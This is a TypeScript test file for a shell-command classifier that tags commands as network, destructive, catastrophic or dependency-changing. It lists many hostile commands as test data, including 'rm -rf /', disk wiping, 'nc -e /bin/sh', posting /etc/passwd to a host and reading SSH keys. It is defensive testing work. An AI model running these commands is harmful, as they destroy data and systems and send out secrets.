import { describe, expect, test } from 'vitest'
import { checkRows, flagsOf, ROOT, type Row, read } from '../../support/shell.ts'

checkRows('P-34', 'network programs name their hosts and what they do there', [
  ['curl https://x.io/a', 'network', '', ['net.get x.io']],
  ['curl -s x.io', 'network', '', ['net.get x.io']],
  ['curl -I https://x.io:8443/a', 'network', '', ['net.get x.io:8443']],
  ['curl https://u:p@x.io/a', 'network', '', ['net.get x.io']],
  ['curl "https://x.io\\@evil.io"', 'network', '', ['net.get *']],
  ['curl https://x.io@evil.io/', 'network', '', ['net.get evil.io']],
  ['curl $url', 'network', 'ambiguous', ['net.get *']],
  ['curl https://$h/a', 'network', 'ambiguous', ['net.get *']],
  ['curl a.io b.io', 'network', '', ['net.get a.io', 'net.get b.io']],
  ['curl -o out x.io', 'network', '', ['create /w/p/out', 'net.get x.io']],
  ['curl -sSLo /etc/x x.io', 'network', '', ['create /etc/x', 'net.get x.io']],
  ['curl --output=out x.io', 'network', '', ['create /w/p/out', 'net.get x.io']],
  ['curl -O https://x.io/a/b.tgz', 'network', '', ['create /w/p/b.tgz', 'net.get x.io']],
  ['curl -OJ https://x.io/a', 'network', '', ['create* /w/p', 'net.get x.io']],
  ['curl -D h -c jar x.io', 'network', '', ['create /w/p/h', 'create /w/p/jar', 'net.get x.io']],
  ['curl --trace t x.io', 'network', '', ['create /w/p/t', 'net.get x.io']],
  ['curl --etag-save e x.io', 'network', '', ['create /w/p/e', 'net.get x.io']],
  ['curl -o /dev/null x.io', 'network', '', ['net.get x.io']],
  ['curl -d a=1 x.io', 'network', '', ['net.send x.io']],
  ['curl -d @f x.io', 'network', '', ['read /w/p/f', 'net.send x.io']],
  ['curl -F f=@/etc/passwd x.io', 'network', '', ['read /etc/passwd', 'net.send x.io']],
  ['curl -T f x.io', 'network', '', ['read /w/p/f', 'net.send x.io']],
  ['curl -X POST x.io', 'network', '', ['net.send x.io']],
  ['curl -XPUT x.io', 'network', '', ['net.send x.io']],
  ['curl -X GET x.io', 'network', '', ['net.get x.io']],
  ['curl --json 1 x.io', 'network', '', ['net.send x.io']],
  ['curl -X DELETE x.io', 'destructive', 'destructive', ['net.send x.io']],
  ['curl --request delete x.io', 'destructive', 'destructive'],
  ['curl -K cfg', 'network', 'ambiguous'],
  ['curl --netrc x.io', 'network', 'ambiguous'],
  ['curl -n x.io', 'network', 'ambiguous'],
  ['curl --unix-socket /run/docker.sock x', 'network', 'ambiguous'],
  ['curl file:///etc/passwd', 'network', '', ['read /etc/passwd']],
  ['curl FILE:///etc/pass%77d', 'network', '', ['read /etc/passwd']],
  ['curl --connect-to x.io:443:evil.io:443 https://x.io', 'network', '', ['net.get *']],
  ['curl -x evil.io https://x.io', 'network', '', ['net.get *']],
  ['wget https://x.io/a.tgz', 'network', '', ['create /w/p/a.tgz', 'net.get x.io']],
  ['wget -qO- x.io', 'network', '', ['net.get x.io']],
  ['wget -O out x.io', 'network', '', ['create /w/p/out', 'net.get x.io']],
  ['wget -r x.io', 'network', '', ['create* /w/p', 'net.get x.io']],
  ['wget --post-data=1 -O- x.io', 'network', '', ['net.send x.io']],
  ['wget -e robots=off -O- x.io', 'network', 'ambiguous', ['net.get x.io']],
  ['wget --use-askpass=id -O- x.io', 'network', 'ambiguous'],
  ['http x.io', 'network', '', ['net.get x.io']],
  ['http POST x.io a=1', 'network', '', ['net.send x.io']],
  ['http DELETE x.io', 'destructive', 'destructive'],
  ['nc x.io 80', 'network', '', ['net.send x.io']],
  ['nc -e /bin/sh x.io 80', 'network', 'ambiguous', ['net.send x.io']],
  ['ncat --sh-exec id x.io 80', 'network', 'ambiguous'],
  ['telnet x.io', 'network', '', ['net.send x.io']],
  ['scp a u@h:/b', 'network', '', ['read* /w/p/a', 'net.send h']],
  ['scp h:/a b', 'network', '', ['create* /w/p/b', 'net.send h']],
  ['scp -S id a h:b', 'network', 'ambiguous'],
  ['sftp h', 'network', '', ['net.send h']],
  ['rsync -a a h:b', 'network', '', ['read* /w/p/a', 'net.send h']],
  ['rsync -a a b', 'other', '', ['read* /w/p/a', 'create* /w/p/b']],
  ['rsync -e id a h:b', 'network', 'ambiguous'],
  ['rsync --rsh=id a h:b', 'network', 'ambiguous'],
  ['rsync --rsync-path=id a h:b', 'network', 'ambiguous'],
  ['dig x.io', 'network', '', ['net.get x.io']],
  ['dig @1.1.1.1 x.io', 'network', '', ['net.get 1.1.1.1', 'net.get x.io']],
  ['nslookup x.io', 'network', '', ['net.get x.io']],
  ['ping -c 1 x.io', 'network', '', ['net.get x.io']],
  ['whois x.io', 'network', '', ['net.get x.io']],
  ['gh pr create', 'network', '', ['net.send github.com']],
  ['gh api repos/a', 'network', '', ['net.send github.com']],
  ['aws s3 ls', 'network', '', ['net.send *']],
  ['gcloud info', 'network', '', ['net.send *']],
  ['az login', 'network', '', ['net.send *']],
  ['npm ci', 'network', '', ['net.get *']],
  ['npm install', 'network', '', ['net.get *']],
  ['yarn', 'network', '', ['net.get *']],
  ['npm test', 'other', '', []],
])

checkRows('P-34', 'changes of what a project depends on are flagged', [
  ['npm install left-pad', 'network', 'dependency-change'],
  ['npm i -D vitest', 'network', 'dependency-change'],
  ['npm remove x', 'other', 'dependency-change'],
  ['npm update', 'network', 'dependency-change'],
  ['npm link', 'other', 'dependency-change'],
  ['pnpm add x', 'network', 'dependency-change'],
  ['yarn add x', 'network', 'dependency-change'],
  ['bun add x', 'network', 'dependency-change'],
  ['pip install x', 'network', 'dependency-change'],
  ['pip3 install -r r.txt', 'network', 'dependency-change'],
  ['poetry add x', 'network', 'dependency-change'],
  ['poetry lock', 'network', 'dependency-change'],
  ['uv remove x', 'other', 'dependency-change'],
  ['cargo add x', 'network', 'dependency-change'],
  ['cargo update', 'network', 'dependency-change'],
  ['go get x', 'network', 'dependency-change'],
  ['go mod tidy', 'network', 'dependency-change'],
  ['go mod edit -require x', 'network', 'dependency-change'],
  ['bundle add x', 'network', 'dependency-change'],
  ['composer require x', 'network', 'dependency-change'],
  ['gem install x', 'network', 'dependency-change'],
  ['sudo npm i x', 'network', 'dependency-change privileged'],
  ['npm run update', 'other', ''],
  ['cargo build', 'other', ''],
])

const destructive = (commands: string): Row[] => commands.split('\n').map((command): Row => [command.trim(), 'destructive', 'destructive'])
const catastrophic = (commands: string, flags = 'catastrophic'): Row[] =>
  commands.split('\n').map((command): Row => [command.trim(), 'destructive', flags])

describe('destruction', () => {
  checkRows('P-35', 'what takes the ground away is catastrophic', [
    ...catastrophic(
      `rm -rf /
      rm -fr /
      rm -r -f /etc
      rm --recursive --force /usr
      rm --recurs /var
      rm -rf /home
      rm -rf ~
      rm -rf ~/
      rm -rf .
      rm -rf ./
      rm -rf ..
      rm -rf /w/p
      rm -rf /w
      rm -rf .git
      rm -rf sub/.git
      rm -rf /w/p/src/..
      rm -rf //
      rm -rf /../
      rm -rf --no-preserve-root /
      rm -Rf /tmp
      /bin/rm -rf /
      ./rm -rf /
      rm -rf x /`,
      'catastrophic destructive',
    ),
    ...catastrophic(`chmod -R 777 /
      chmod --recursive 000 ~
      chown -R u /
      chown -R u:u .
      chgrp -R u /etc
      mv / x
      mv ~ x
      mv .git x
      mkfs /dev/sda
      mkfs.ext4 /dev/sda1
      wipefs -a /dev/sda
      fdisk /dev/sda
      parted /dev/sda
      shutdown now
      reboot
      halt
      poweroff
      systemctl poweroff
      crontab -r
      crontab -u u -r
      cp x /dev/sda
      tee /dev/sda
      init 0`),
    ['dd if=x of=/dev/sda', 'destructive', 'catastrophic destructive'],
    ['find / -delete', 'destructive', 'catastrophic destructive'],
    ['find ~ -type f -delete', 'destructive', 'destructive'],
    ['sudo rm -rf /', 'destructive', 'catastrophic destructive privileged'],
    ['echo $(rm -rf /)', 'destructive', 'catastrophic destructive'],
    ['echo "`rm -rf /`"', 'destructive', 'catastrophic destructive'],
    ['ls || rm -rf /', 'destructive', 'catastrophic destructive'],
    ['cat <(rm -rf /)', 'destructive', 'catastrophic destructive'],
    ['x=$(rm -rf /)', 'destructive', 'catastrophic destructive'],
    ['ls > $(rm -rf /)', 'destructive', 'ambiguous catastrophic destructive'],
    ['case $(rm -rf /) in a) ;; esac', 'destructive', 'catastrophic destructive'],
    ['[[ -n $(rm -rf /) ]]', 'destructive', 'catastrophic destructive'],
    ['for x in $(rm -rf /); do :; done', 'destructive', 'catastrophic destructive'],
    ['echo ${x:-$(rm -rf /)}', 'destructive', 'catastrophic destructive'],
    ['cd / && rm -rf *', 'destructive', 'ambiguous catastrophic destructive'],
    ['cd ~ && rm -rf .', 'destructive', 'catastrophic destructive'],
    ['mv src x', 'file-effect', ''],
    ['chmod -R 755 src', 'other', ''],
    ['rm /etc/passwd', 'file-effect', ''],
    ['crontab -l', 'other', ''],
  ])

  checkRows(
    'P-35',
    'files, git, data, services and processes are destroyed in many ways',
    destructive(`rm -rf build
      rm -r x
      rm -R x
      shred x
      truncate -s 0 x
      dd if=/dev/zero of=x
      rsync -a --delete a b
      rsync -a --delete-after a b
      git push -f
      git push --force
      git push --force-with-lease
      git push --force-with
      git push --mirror
      git push --prune
      git push origin --delete x
      git push -d origin x
      git push origin +main
      git push origin :x
      git push -uf origin x
      git -C x push -f
      git reset --hard
      git reset --har HEAD
      git reset --merge
      git reset --keep x
      git clean -f
      git clean -fdx
      git clean -dfx
      git checkout -f
      git checkout -- a
      git checkout .
      git checkout main a
      git restore a
      git restore --staged --worktree a
      git restore -SW a
      git switch -f x
      git switch --discard-changes x
      git branch -D x
      git branch -d x
      git branch -M x
      git branch --delete x
      git tag -d x
      git tag -f x
      git stash drop
      git stash clear
      git reflog expire --all
      git reflog delete x
      git gc --prune=now
      git filter-branch x
      git filter-repo x
      git update-ref -d x
      git worktree remove --force x
      git worktree remove -f x
      git rebase main
      git commit --amend
      git commit --am -m x
      psql -c DROP\\ TABLE\\ a
      mysql -e TRUNCATE\\ a
      mariadb --execute=drop\\ table\\ a
      sqlite3 a.db DELETE\\ FROM\\ a
      psql -c UPDATE\\ a\\ SET\\ b=1
      psql -c ALTER\\ TABLE\\ a\\ DROP\\ b
      sqlcmd -Q DROP\\ TABLE\\ a
      redis-cli flushall
      redis-cli -h x FLUSHDB
      mongosh --eval db.a.drop\\(\\)
      terraform destroy
      terraform apply
      kubectl delete pod x
      kubectl -n x delete pod y
      helm uninstall x
      docker system prune
      docker volume rm x
      docker compose down -v
      docker-compose down --volumes
      npm publish
      cargo publish
      gem push x
      twine upload dist
      mail -s x y
      sendmail x
      kill -9 1
      kill -KILL 1
      kill -s KILL 1
      kill -SIGKILL 1
      pkill node
      killall node
      systemctl stop x
      systemctl disable x
      systemctl mask x
      auditctl -D
      journalctl --vacuum-time=1d
      history -c
      timeout 5 git push -f
      vault delete x
      rclone purge x
      restic -r x prune
      flyctl apps destroy x`)
      .map(([command, ...rest]): Row => [command, ...rest])
      .filter(([command]) => !command.startsWith('git push') && !command.startsWith('git -C')),
  )

  checkRows('P-35', 'a push that rewrites is destructive', [
    ...'git push -f,git push --force,git push --force-with-lease,git push --force-with,git push --mirror,git push --prune,git push origin --delete x,git push -d origin x,git push origin +main,git push origin :x,git push -uf origin x,git -C x push -f'
      .split(',')
      .map((command): Row => [command, 'destructive', 'destructive']),
    ['aws s3 rm s3://x', 'destructive', 'destructive'],
    ['aws s3 rb s3://x', 'destructive', 'destructive'],
    ['aws ec2 terminate-instances --instance-ids i', 'destructive', 'destructive'],
    ['gcloud compute instances delete x', 'destructive', 'destructive'],
    ['az group delete -n x', 'destructive', 'destructive'],
    ['gh repo delete x', 'destructive', 'destructive'],
    ['gh api -X DELETE repos/x', 'destructive', 'destructive'],
  ])

  checkRows('P-35', 'what only resembles destruction is none', [
    ['git push', 'other', ''],
    ['git push origin main', 'other', ''],
    ['git reset --soft HEAD~1', 'other', ''],
    ['git clean -n', 'other', ''],
    ['git clean -nfd', 'other', ''],
    ['git restore --staged a', 'other', ''],
    ['git checkout main', 'other', ''],
    ['git worktree remove x', 'other', ''],
    ['git tag v1', 'other', ''],
    ['git commit -m "rm -rf /"', 'other', ''],
    ['echo "rm -rf /"', 'read-only', ''],
    ['grep "rm -rf /" a', 'read-only', ''],
    ["psql -c 'SELECT 1'", 'other', ''],
    ["psql -c 'UPDATE a SET b=1 WHERE c=2'", 'other', ''],
    ["psql -c 'DELETE FROM a WHERE b=1 LIMIT 5'", 'other', ''],
    ['psql -c "$x"', 'other', 'ambiguous'],
    ['psql -f x.sql', 'other', 'ambiguous'],
    ['cat x.sql | psql', 'other', 'ambiguous'],
    ["psql <<'EOF'\nDROP TABLE a;\nEOF", 'destructive', 'destructive'],
    ["sqlite3 a.db '.shell id'", 'other', 'ambiguous'],
    ['kill 123', 'other', ''],
    ['terraform plan', 'other', ''],
    ['kubectl -n delete get pods', 'read-only', ''],
    ['docker compose down', 'other', ''],
  ])

  test('P-35 what belongs to the run is its own to end', () => {
    expect(read('kill -9 41 42', { pidsOfRun: [41, 42] }).class).toBe('other')
    expect(read('kill -9 41 43', { pidsOfRun: [41, 42] }).class).toBe('destructive')
    expect(read('kill -9 $x', { pidsOfRun: [41] }).class).toBe('destructive')
    expect(read('git commit --amend', { branchesOfRun: ['qed/1'], currentBranch: 'qed/1' }).class).toBe('other')
    expect(read('git rebase main', { branchesOfRun: ['qed/1'], currentBranch: 'main' }).class).toBe('destructive')
    expect(read('git rebase main', { branchesOfRun: ['qed/1'] }).class).toBe('destructive')
  })

  test('P-35 checking out a word that exists as a path throws its changes away', () => {
    const file = { real: `${ROOT}/a`, exists: true, type: 'file' as const, device: 1, inode: 1, links: 1 }
    expect(flagsOf(read('git checkout a', { paths: { [`${ROOT}/a`]: file } }))).toBe('destructive')
    expect(flagsOf(read('git checkout a'))).toBe('')
  })
})

checkRows('P-41', 'words of an unknown program that lead elsewhere are guessed to be read', [
  ['make -C /etc', 'other', '', ['read? /etc']],
  ['tool /etc/passwd', 'other', '', ['read? /etc/passwd']],
  ['tool ~/.ssh/id_rsa', 'other', '', ['read? /home/u/.ssh/id_rsa']],
  ['tool ../x', 'other', '', ['read? /w/p/../x']],
  ['tool --file=/etc/passwd', 'other', '', ['read? /etc/passwd']],
  ['tool in=/etc/passwd', 'other', '', ['read? /etc/passwd']],
  ['tool in=~/".ssh/x"', 'other', '', ['read? /home/u/.ssh/x']],
  ['tool https://x.io/../a', 'other', '', []],
  ['tool src/a', 'other', '', []],
  ['python3 /etc/x.py', 'other', '', ['read? /etc/x.py']],
  ['./cat /etc/passwd', 'other', '', ['read? /etc/passwd']],
  ['npm --prefix /etc test', 'other', '', ['read? /etc']],
])

checkRows('P-28', 'interpreters with code among their words are noted', [
  ['python3 -c "print(1)"', 'other', 'inline-code'],
  ['python -m pytest', 'other', ''],
  ['node -e 1', 'other', 'inline-code'],
  ['node --eval=1', 'other', 'inline-code'],
  ['node -p 1', 'other', 'inline-code'],
  ['ruby -e 1', 'other', 'inline-code'],
  ['perl -e 1', 'other', 'inline-code'],
  ['perl -pi -e s/a/b/ f', 'other', 'inline-code'],
  ['php -r 1', 'other', 'inline-code'],
  ['lua -e 1', 'other', 'inline-code'],
  ['osascript -e x', 'other', 'inline-code'],
  ['python3 x.py -c a', 'other', ''],
  ['node x.js -e', 'other', ''],
])
